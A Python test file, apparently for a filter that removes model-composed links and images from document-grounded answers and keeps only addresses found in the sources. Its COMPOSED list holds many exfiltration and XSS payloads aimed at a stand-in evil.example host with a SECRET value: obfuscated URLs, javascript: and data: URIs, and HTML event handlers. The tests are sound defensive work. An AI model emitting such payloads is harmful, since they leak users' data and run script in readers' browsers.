"""Nothing that an answer from documents points at was composed by the model, however it is spelled and cut."""

import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from inference.outbound import Allowed, OutboundFilter, filtered
from tests.inference.outbound.renderers import autolinks, pointers

MANUAL = "https://docs.acme.example/manual_(v2)?page=3&lang=en"
PASSAGES = [
    f"Read {MANUAL}. Images stand at https://img.acme.example/a.png, or ask help@acme.example.",
    "| [Parts](https://acme.example/parts) | <https://acme.example/auto> | see notes.v2.md and www.acme.example |",
]
ALLOWED = Allowed.within(PASSAGES)
EVIL = "https://evil.example/c?d=SECRET"


def by_character(text: str) -> str:
    passing = OutboundFilter(ALLOWED)
    return "".join(passing.take(character) for character in text) + passing.finish()


COMPOSED = [
    f"![]({EVIL})",
    f"![alt]({EVIL} 'title')",
    f"![alt](<{EVIL}>)",
    f"![a ![b]({EVIL})]({EVIL})",
    f"[![badge]({EVIL})]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"![1]\n\n[1]: {EVIL}",
    f"![x][]\n\n[x]: <{EVIL}> 'title'",
    f"![x]\n\n[x]:\n{EVIL}",
    f"[click]({EVIL})",
    f"[click](\n{EVIL}\n)",
    f"[a](https://ok)]({EVIL})",
    f"<{EVIL}>",
    EVIL,
    f"({EVIL}).",
    f"**{EVIL}**",
    f"`{EVIL}`",
    f"```\n{EVIL}\n```",
    "![x](//evil.example/SECRET)",
    "[x](/redirect?to=evil.example&d=SECRET)",
    "![x](/redirect?to=evil.example&d=SECRET)",
    "[x]: /redirect?d=SECRET\n\n[x]",
    "![x]\n\n[x]: redirect-SECRET",
    r"[x](\\evil.example\SECRET)",
    "[x](javascript:alert('SECRET'))",
    "[x](java&#115;cript:alert('SECRET'))",
    "[x](java&Tab;script&colon;alert('SECRET'))",
    "[x](data:text/html;base64,SECRET)",
    "[x](vbscript:SECRET)",
    "data:text/html,SECRET",
    "[x](mailto:me@evil.example?subject=SECRET)",
    "mailto:me@evil.example?subject=SECRET",
    "SECRET@evil.example",
    "www.evil.example/SECRET",
    "WWW.EVIL.EXAMPLE/SECRET",
    "evil.com/SECRET",
    "evil.com?SECRET",
    "SECRET.evil.com",
    "//evil.com/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "hTtPs:evil.example/SECRET",
    "https:/evil.example/SECRET",
    r"https:\\evil.example\SECRET",
    r"https\://evil.example/SECRET",
    r"https:\/\/evil.example/SECRET",
    "https&colon;&sol;&sol;evil.example/SECRET",
    "&#104;ttps://evil.example/SECRET",
    "&#x68;&#x74;tps&#58;//evil.example/SECRET",
    "&amp;#104;ttps://evil.example/SECRET",
    "ht\u200btps://evil.example/SECRET",
    "https://ev\u200bil.exa\u00admple/SECRET",
    "https://evil%2eexample/%53ECRET",
    "\u200bhttps://evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "slack://channel?id=SECRET",
    f'<img src="{EVIL}">',
    f"<img src={EVIL}>",
    f"<IMG\nSRC='{EVIL}' alt='x'>",
    f"<img/src={EVIL}>",
    f"<img srcset='{EVIL} 2x'>",
    "<img src='//evil.example/SECRET'",
    f"<a href='{EVIL}'>x</a>",
    f"<a\thref={EVIL}>x</a>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<link rel=stylesheet href='{EVIL}'>",
    f"<style>@import '{EVIL}';</style>",
    f"<div style=\"background:url('{EVIL}')\">x</div>",
    f"<table background='{EVIL}'><tr><td>x</td></tr></table>",
    f"<object data='{EVIL}'></object>",
    f"<video poster='{EVIL}' src='{EVIL}'></video>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<script>fetch('{EVIL}')</script>",
    "<script>fetch('ht'+'tps:'+'//evil.example/SECRET')</script>",
    "<b onclick=fetch('SECRET')>x</b>",
    "<xyz onfocus=fetch('SECRET') tabindex=1 autofocus>",
    "<xyz,y onfocus=fetch('SECRET')>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}'>",
    f"<form action='{EVIL}'><button>x</button></form>",
    f"<!--><img src='{EVIL}'>-->",
    f"<b <img src='{EVIL}'>",
    "ht<img>tps://evil.example/SECRET",
    f"!<a>[x]({MANUAL})",
    f"!<b>[x](<{EVIL}>)",
    f"!![[x]({MANUAL})]({EVIL})",
    f"{MANUAL}&d=SECRET",
    f'"{MANUAL}"SECRET',
    f'"{MANUAL}","SECRET"',
    f"{MANUAL}，SECRET",
    f"{MANUAL}>SECRET",
    f"`{MANUAL}`SECRET",
    f"[x]({MANUAL})SECRET",
    f"x]({MANUAL})SECRET",
    f"{MANUAL}。/SECRET",
    f"{MANUAL}SECRET",
    f"{MANUAL},{MANUAL}?SECRET",
    "https://acme.example/parts/../SECRET",
    "https://acme.example/parts](SECRET)",
    "[x](https://acme.example/parts#SECRET)",
    "SECRET.acme.example",
    "SECRET.www.acme.example/x",
    "SECRET-help@acme.example",
    "https://SECRET@acme.example/parts",
    "https://docs.acme.example/man",
]


@pytest.mark.parametrize("text", COMPOSED)
def test_nothing_composed_is_rendered_as_image_or_link(text: str) -> None:
    for shown in (filtered(text, ALLOWED), filtered(f"See: {text} and so on.", ALLOWED)):
        found = pointers(shown)
        assert found.others == [], shown
        assert [link for link in found.links if link not in (MANUAL, "https://acme.example/parts")] == [], shown
        assert set(autolinks(shown)) <= ALLOWED.addresses, shown
        assert "evil.example/" not in shown.lower() and not re.search(r"https?:\S*SECRET", shown), shown


@pytest.mark.parametrize("text", COMPOSED)
def test_what_is_taken_out_does_not_depend_on_how_the_stream_is_cut(text: str) -> None:
    text = f"See: {text} and so on."
    assert by_character(text) == filtered(text, ALLOWED)


IMAGES = [
    (f"![A pump]({MANUAL})", "A pump"),
    ("Look: ![A pump](https://img.acme.example/a.png 'x')!", "Look: A pump!"),
    ("![](https://img.acme.example/a.png)", "[image removed]"),
    ("<img src='https://img.acme.example/a.png' alt='A pump'>.", "A pump."),
    ("<img src='https://img.acme.example/a.png'>.", "[image removed]."),
    ("![**A** [pump](https://acme.example/parts)](x)", "**A** [pump](https://acme.example/parts)"),
]


@pytest.mark.parametrize(("text", "shown"), IMAGES)
def test_an_image_becomes_its_alternative_text_even_where_its_address_is_known(text: str, shown: str) -> None:
    assert filtered(text, ALLOWED) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"See {EVIL}.", "See [link removed]."),
        (f"[The manual]({EVIL}), page 3", "[The manual], page 3"),
        (f"<a href='{EVIL}'>The manual</a>", "The manual</a>"),
        ("Write to boss@evil.example!", "Write to boss[link removed]!"),
        ("at docs.SECRET.com", "at docs.SECRET. com"),
        ("So [1].\n\n> [1]: The manual", "So [1].\n\n> [1] : The manual"),
    ],
)
def test_a_composed_link_becomes_its_text(text: str, shown: str) -> None:
    assert filtered(text, ALLOWED) == shown


KEPT = [
    f"See {MANUAL}.",
    f"(See {MANUAL})",
    f"**{MANUAL}**, or <https://acme.example/auto>.",
    f"[The manual]({MANUAL}) says [1].",
    f"| [a]({MANUAL}), | [b](https://acme.example/parts) |",
    f'{{"url": "{MANUAL}", "also": ["https://acme.example/parts"]}}',
    "[https://acme.example/parts](https://acme.example/parts)",
    f'<a href="{MANUAL}">The manual</a>',
    "Ask help@acme.example; www.acme.example; acme.example.",
    "See notes.v2.md, page 3.",
    "[Above](#part-2)",
    "The pump is at 3.5 bar [1]. Great![2] See [1]: the seals.",
    "a < b, x <- y, 1<2, a<=b, List<String>, Map<String, Integer>, vector<int>(3), <br>, <b>bold</b>, </b>",
    'array[0] (x) and [x] and [ ] todo, `f(a)[0]`, {"a": [1, 2], "b": "c:d"}',
    "C:\\Users\\x, std::vector, 12:30, 10.0.0.0/8, km/h, and/or, e.g. this, U.S., i.e./e.g., v1.2/3, 5/6, a@b, AT&T",
    "Node.js, settings.py, config.yaml, os.path.join(a), self.id, np.linalg.inv(x), done.It is, Is it settings.py?",
    "泵的压力为3.5巴：见第2页。参见https://acme.example/parts",
    "price: 5$ @ 3%; wow!; # heading; - item; 1. item; > quote; --- ; ~~~ ; a_b_c ; 100% & more &amp; rest",
]


@pytest.mark.parametrize("text", KEPT)
def test_what_points_nowhere_new_is_left_alone(text: str) -> None:
    assert filtered(text, ALLOWED) == text
    assert by_character(text) == text


def test_an_address_is_known_only_whole() -> None:
    assert {MANUAL, "help@acme.example", "https://acme.example/parts", "notes.v2.md"} <= ALLOWED.addresses
    assert not {"https://docs.acme.example/", "https://acme.example/part"} & ALLOWED.addresses


def test_what_follows_a_known_address_without_a_blank_is_parted_from_it() -> None:
    for text, shown in [
        ("见https://acme.example/parts谢谢", "见https://acme.example/parts 谢谢"),
        ("https://acme.example/parts，谢谢", "https://acme.example/parts ，谢谢"),
        ('{"a":"https://acme.example/parts","b":1}', '{"a":"https://acme.example/parts", "b":1}'),
        ("|[a](https://acme.example/parts)|[b](https://acme.example/parts)|",) * 2,
    ]:
        assert by_character(text) == filtered(text, ALLOWED)
        assert filtered(text, ALLOWED) == shown.replace(")|[", ")| [")


FRAGMENTS = [
    *"![](<>)]:/\\.&@#; \n\t\"'`ah1\u200b",
    *(
        "http",
        "://",
        "www.",
        "evil",
        ".com",
        "<img ",
        "<a href=",
        "alt=",
        "](",
        "![",
        "]:",
        "&#104;",
        "\\u0068",
        "</",
        "<!--",
    ),
    *("x" * 90, "x" * 600, "/y" * 1200),
]
PIECES = st.sampled_from([*COMPOSED, *KEPT, *(text for text, _ in IMAGES), *FRAGMENTS])


@given(st.lists(PIECES, max_size=12).map("".join), st.lists(st.integers(1, 40), min_size=1, max_size=30))
def test_any_cut_of_a_stream_gives_the_same_text(text: str, sizes: list[int]) -> None:
    passing, out, start = OutboundFilter(ALLOWED), "", 0
    for size in [*sizes, len(text)]:
        out += passing.take(text[start : start + size])
        start += size
    assert out + passing.finish() == filtered(text, ALLOWED)


@given(st.lists(PIECES, max_size=10).map("".join))
@example(f"]({EVIL})![x]")
@example(f"![alt]({EVIL} 'title')www.SECRET.evil.com")
def test_no_composition_of_tricks_is_rendered_as_image_or_composed_link(text: str) -> None:
    found = pointers(filtered(text, ALLOWED))
    assert found.others == []
    for link in [*found.links, *autolinks(filtered(text, ALLOWED))]:
        # A name alone (`evil.com`, which looks like `Node.js`) stays: it carries nothing unless its owner has them all.
        assert re.fullmatch(r"http://[\w-]+\.[a-z]+", link) or ("SECRET" not in link and "evil" not in link)


@given(st.text(alphabet=st.characters(blacklist_characters="![]<>.:@/\\&"), max_size=200))
def test_text_without_a_sign_of_an_address_passes_unchanged(text: str) -> None:
    assert filtered(text, ALLOWED) == text


@given(st.lists(st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=1, max_size=12), min_size=1, max_size=40))
def test_words_are_not_held_back(words: list[str]) -> None:
    passing, sent = OutboundFilter(ALLOWED), 0
    text = " ".join(words)
    for index, character in enumerate(text, start=1):
        sent += len(passing.take(character))
        # `http`, `javascript` … could become an address with the next character: no other word waits.
        assert index - sent <= 10
    assert sent + len(passing.finish()) == len(text)


def test_prose_is_held_back_for_a_full_stop_only() -> None:
    text = (
        "The axis seals are replaced every 24 months (see page 3). At sites close to the sea it is 12 months [1]. " * 20
    )
    pieces = re.findall(r" ?\S+?(?=\W|$)|\W", text)
    passing, made, sent, late = OutboundFilter(ALLOWED), 0, 0, 0
    for piece in pieces:
        made += len(piece)
        sent += len(passing.take(piece))
        late = max(late, made - sent)
    assert late <= 2


def test_the_work_grows_with_the_text_and_no_faster() -> None:
    started = time.perf_counter()
    for text in ("[x](y) " * 3_000, "a." * 10_000, "<b " * 7_000, "![" * 4_000, "https://" * 3_000, "a" * 20_000):
        filtered(text, ALLOWED)
    # A second here; the first draft took twenty for the dots alone.
    assert time.perf_counter() - started < 10
